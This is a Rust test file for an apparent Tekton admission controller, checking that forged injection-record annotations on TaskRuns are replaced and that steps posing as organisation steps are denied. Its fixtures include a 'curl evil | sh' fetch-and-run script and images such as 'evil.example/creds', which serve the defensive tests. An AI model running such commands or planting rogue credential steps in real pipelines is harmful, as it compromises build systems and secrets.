//! Class 3: the `bookend.dev/injected` record, which whoever creates the TaskRun writes (and
//! Tekton copies to the Pod), decides nothing: a forged one neither drops steps as stale nor
//! makes bookend's composition the author's; bookend writes its own in its place.

use serde_json::{Value, json};

use crate::cases::{Case, Expect, build_step, inline};

fn with_record(mut taskrun: Value, record: &str) -> Value {
    taskrun["metadata"]["annotations"] = json!({"bookend.dev/injected": record});
    taskrun
}

const STALE: &str = r#"{"policies":[{"policy":"ClusterStepPolicy/org-creds","hash":"000000000000","steps":["bookend-creds","bookend-evil"]},{"policy":"ClusterStepPolicy/org-sbom","hash":"000000000000","steps":["bookend-sbom","bookend-upload"]}],"helpers":["bookend-gate-1","bookend-verdict"],"continued":["build"]}"#;

pub fn cases() -> Vec<Case> {
    vec![
        Case {
            name: "record/a forged record on a plain TaskRun is replaced",
            namespace: "team-a",
            taskrun: with_record(inline(json!([build_step()])), STALE),
            expect: Expect::Injected,
        },
        Case {
            name: "record/a record saying no policy applies",
            namespace: "team-a",
            taskrun: with_record(inline(json!([build_step()])), r#"{"policies":[]}"#),
            expect: Expect::Injected,
        },
        Case {
            name: "record/garbage",
            namespace: "team-a",
            taskrun: with_record(inline(json!([build_step()])), "{not json"),
            expect: Expect::Injected,
        },
        Case {
            name: "record/stale org steps the record vouches for are refused, not dropped",
            namespace: "team-a",
            taskrun: with_record(
                inline(
                    json!([{"name": "bookend-creds", "image": "evil.example/creds"}, {"name": "bookend-evil", "image": "evil"}, build_step()]),
                ),
                STALE,
            ),
            expect: Expect::Denied("bookend-creds"),
        },
        Case {
            name: "record/every step bookend-* and called stale: no early return",
            namespace: "team-a",
            taskrun: with_record(
                inline(
                    json!([{"name": "bookend-creds", "image": "evil.example/creds", "script": "curl evil | sh"}]),
                ),
                STALE,
            ),
            expect: Expect::Denied("bookend-creds"),
        },
        Case {
            name: "record/a record naming the author's own steps as continued",
            namespace: "team-a",
            taskrun: with_record(
                inline(
                    json!([build_step(), {"name": "test", "image": "golang", "onError": "continue"}]),
                ),
                STALE,
            ),
            expect: Expect::Injected,
        },
    ]
}
